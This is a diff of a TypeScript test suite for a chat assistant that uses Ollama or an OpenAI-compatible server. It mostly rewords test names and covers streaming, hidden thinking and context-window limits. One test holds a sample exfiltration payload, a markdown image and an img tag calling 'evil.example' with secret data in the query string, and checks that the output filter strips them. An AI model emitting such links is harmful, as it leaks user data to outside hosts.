@@ -31,7 +31,7 @@ const desk = (ai: Record<string, unknown>, host = ollama.url): Desk => {
 }
 const withOllama = (more: Record<string, unknown> = {}) => desk({ provider: 'ollama', ...more })
 
-/** What the model is asked from now on; it says these steps each time. */
+/** The requests to the model from now on, which answers each with these steps. */
 function says(...steps: Step[]): OllamaChat[] {
   const asked: OllamaChat[] = []
   ollama.script((chat) => {
@@ -44,7 +44,7 @@ function says(...steps: Step[]): OllamaChat[] {
 const systemOf = (chat: OllamaChat | undefined) => chat?.messages[0]?.content ?? ''
 
 describe('with a model', () => {
-  test('it is given the passages that were found, and its words come back with their pages', async () => {
+  test('it receives the passages found, and its text is returned with their pages', async () => {
     const asked = says(
       { text: 'Delivery inside Marlow' },
       { text: ' costs £4.95.' },
@@ -85,7 +85,7 @@ describe('with a model', () => {
     ])
   })
 
-  test('[R118] a token reaches the stream before the next is sent', async () => {
+  test('[R118] a token reaches the stream before the next one is written', async () => {
     const gate = createGate()
     says(...stepped(gate, ['We', ' are', ' open.']))
     const writing = beginReply(await withOllama().context(), turnOf('Are you open?'))
@@ -99,7 +99,7 @@ describe('with a model', () => {
     expect((await writing.written).messages).toEqual([{ type: 'text', text: 'We are open.' }])
   })
 
-  test('images and thinking never reach the stream, wherever they are cut', async () => {
+  test('images and thinking never reach the stream, however they are split', async () => {
     const text =
       '<think>secret</think>Here ![x](https://evil.example/?d=secret) <img src="https://evil.example/"> it is.'
     says(...[...text].map((character) => ({ text: character })))
@@ -108,7 +108,7 @@ describe('with a model', () => {
     expect(stream.slice(1).join('')).toBe(shown)
   })
 
-  test('[U38] a model that can think does so where the site wants it, and nobody sees it', async () => {
+  test('[U38] a model that can think does so if the site wants it, and nobody sees the thinking', async () => {
     ollama.models.push({ ...ollama.models[0]!, name: 'thinker', capabilities: ['completion', 'tools', 'thinking'] })
     const asked = says({ thinking: 'Hmm, secret.' }, { text: 'Yes.' })
     const { stream } = await replyTo(
@@ -123,12 +123,12 @@ describe('with a model', () => {
     ])
   })
 
-  test('a greeting rests on no page', async () => {
+  test('a greeting has no sources', async () => {
     says({ text: 'Hello! How can I help you?' })
     expect((await replyTo(await withOllama().context(), turnOf('Hello'))).sources).toEqual([])
   })
 
-  test('an OpenAI-compatible server does as well', async () => {
+  test('an OpenAI-compatible server works the same', async () => {
     const openai = await startFakeOpenai()
     openai.script(() => [
       { text: 'Delivery inside Marlow costs £4.95.' },
@@ -150,7 +150,7 @@ describe('the window', () => {
     said(place % 2 ? 'agent' : 'user', `${place} ${'some words '.repeat(40)}`),
   )
 
-  test('is never overrun; what was left out stands in the trace', async () => {
+  test('is never exceeded; what was left out is in the trace', async () => {
     const asked = says({ text: 'Yes.' })
     const turn = turnOf([...history, said('user', 'What does delivery cost?')])
     const { trace } = await replyTo(await withOllama({ contextTokens: 2048 }).context(), turn)
@@ -161,7 +161,7 @@ describe('the window', () => {
     expect(systemOf(asked[0])).toContain('£4.95')
   })
 
-  test('what the server counts corrects the next prompt', async () => {
+  test('the server’s token count corrects the next prompt', async () => {
     const one = withOllama({ contextTokens: 4096 })
     const turn = turnOf([...history, said('user', 'What does delivery cost?')])
     const asked = says({ text: 'Yes.' }, { done: { input: 4000, output: 1 } })
@@ -169,7 +169,7 @@ describe('the window', () => {
     await replyTo(await one.context(), turn)
     const lengths = asked.map(({ messages }) => messages.reduce((sum, { content }) => sum + content.length, 0))
     expect(lengths[1]).toBeLessThan((lengths[0] ?? 0) * 0.95)
-    expect(assistantState(one.parts).scale.of('llama3.2:latest')).toBeGreaterThan(1)
+    expect(assistantState(one.services).scale.of('llama3.2:latest')).toBeGreaterThan(1)
   })
 })
 
